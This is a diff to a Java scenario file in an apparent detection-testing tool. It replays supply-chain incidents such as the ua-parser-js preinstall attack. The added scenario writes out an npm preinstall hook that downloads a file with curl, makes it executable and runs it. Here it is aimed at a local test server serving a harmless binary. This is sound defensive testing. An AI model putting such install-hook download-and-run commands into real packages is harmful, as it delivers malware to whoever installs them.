@@ -3,8 +3,8 @@ package dev.hookline.linux.scenario;
 import static dev.hookline.linux.scenario.Rules.*;
 import static dev.hookline.linux.scenario.SeedScenarios.requireHit;
 import static dev.hookline.scenario.Expectation.caught;
+import static dev.hookline.scenario.Expectation.knownGap;
 import static dev.hookline.scenario.Expectation.missedByDesign;
-import static dev.hookline.scenario.Expectation.pending;
 
 import dev.hookline.scenario.Scenario;
 import java.io.IOException;
@@ -22,7 +22,7 @@ final class IncidentScenarios {
     }
 
     static List<Scenario> all() {
-        return List.of(uaParserPreinstall(), shaiHuludPostinstall(), nxGhAuthToken(), setupPyReverseShell(),
+        return List.of(uaParserPreinstall(), uaParserPreinstallDelayed(), shaiHuludPostinstall(), nxGhAuthToken(), setupPyReverseShell(),
                 procMemRead(), npmBeacon(), pipNonDefaultIndex());
     }
 
@@ -34,7 +34,7 @@ final class IncidentScenarios {
                 List.of("npm", "node", "curl", "chmod", "true"),
                 List.of(caught(SEED_T1195, HOOK_CHILD), caught(PREINSTALL_MINER, "InstallHookDownloadAndRun"),
                         caught(PREINSTALL_MINER, "CoinMinerStarted"), caught(PM_NETWORK_TOOL, null),
-                        pending(PENDING_DOWNLOAD_EXEC, null, PENDING_NOTE)),
+                        knownGap(DOWNLOADED_EXEC, "DownloadedFileExecuted", EXEC_BEFORE_WRITE_ROW)),
                 ws -> {
                     LoopbackHttp http = ws.closeLater(new LoopbackHttp());
                     http.serve("/download/jsextension", "application/octet-stream",
@@ -45,6 +45,29 @@ final class IncidentScenarios {
                                     + " && ./jsextension && touch " + ran));
                     Npm.installLocal(ws, pkg);
                     requireHit(http, "/download/jsextension", "the preinstall download");
+                    requireFile(ran, "the downloaded jsextension did not run");
+                });
+    }
+
+    /**
+     * The same download and run with a second's pause before the run: the file row is then in before the exec, so
+     * this shows the download-exec link working live (and that the immediate form misses only on ordering).
+     */
+    static Scenario uaParserPreinstallDelayed() {
+        return LinuxScenario.attack("ua-parser-js-preinstall-delayed", "incident: ua-parser-js (2021), variant",
+                "as ua-parser-js-preinstall, but the hook waits 1 s between the download and the run",
+                List.of("npm", "node", "curl", "chmod", "sleep", "true"),
+                List.of(caught(DOWNLOADED_EXEC, "DownloadedFileExecuted"),
+                        caught(PREINSTALL_MINER, "InstallHookDownloadAndRun")),
+                ws -> {
+                    LoopbackHttp http = ws.closeLater(new LoopbackHttp());
+                    http.serve("/download/jsextension", "application/octet-stream",
+                            Files.readAllBytes(requireProgram("true")));
+                    Path ran = ws.dir.resolve("jsextension-ran");
+                    Path pkg = Npm.packageDir(ws.dir.resolve("pkg"), "hookline-scn-ua-parser-delayed", Map.of(
+                            "preinstall", "curl " + http.url("/download/jsextension") + " -s -o jsextension && chmod +x"
+                                    + " jsextension && sleep 1 && ./jsextension && touch " + ran));
+                    Npm.installLocal(ws, pkg);
                     requireFile(ran, "the downloaded jsextension did not run");
                 });
     }
@@ -177,7 +200,7 @@ final class IncidentScenarios {
                         + "serves",
                 List.of("python3"),
                 List.of(caught(PM_NONREGISTRY_PORT, null), missedByDesign(SEED_T1195, PM_EGRESS, LOOPBACK_BY_DESIGN),
-                        pending(PENDING_NONDEFAULT_REGISTRY, null, PENDING_NOTE)),
+                        caught(NONDEFAULT_REGISTRY, "InstallFromNonDefaultRegistry")),
                 ws -> {
                     LoopbackHttp index = ws.closeLater(new LoopbackHttp());
                     String wheel = Pip.publishWheel(index, "hookline-scn-index-dep");
